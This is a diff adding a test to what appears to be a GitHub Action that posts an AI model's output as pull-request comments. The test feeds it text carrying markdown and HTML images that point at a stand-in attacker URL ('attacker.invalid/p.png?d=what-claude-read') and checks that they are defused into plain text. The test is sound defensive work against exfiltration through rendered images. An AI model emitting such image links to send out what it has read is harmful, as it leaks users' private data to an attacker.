@@ -367,6 +367,21 @@ test('server errors are retried; a 5xx that persists is a warning', async () => 
   expect(commentRequests(github).filter(r => r.method === 'GET')).toHaveLength(2 + 3)
 })
 
+test("images in the model's text reach the comment and the summary as links and text, never as images", async () => {
+  const exfil = 'https://attacker.invalid/p.png?d=what-claude-read'
+  model = await startModel({ text: `Done. ![status](${exfil})\n<img src="${exfil}">\n\n\`\`\`html\n<img src="kept-in-code.png">\n\`\`\`` })
+  github = await startGitHubApi()
+  const run = await prRun()
+  expect(run.exitCode).toBe(0)
+  const body = github.comments[0]?.body ?? ''
+  for (const posted of [body, run.summary]) {
+    expect(posted).toContain(`Done. !\u200b[status](${exfil})\n<\u200bimg src="${exfil}">`)
+    expect(posted).not.toMatch(/!\[status\]|<img src="https/)
+    // The code block is as the model wrote it.
+    expect(posted).toContain('```html\n<img src="kept-in-code.png">\n```')
+  }
+})
+
 test("an over-long result is cut to GitHub's limit with a note and the run link", async () => {
   model = await startModel({ text: 'x'.repeat(70000) })
   github = await startGitHubApi()
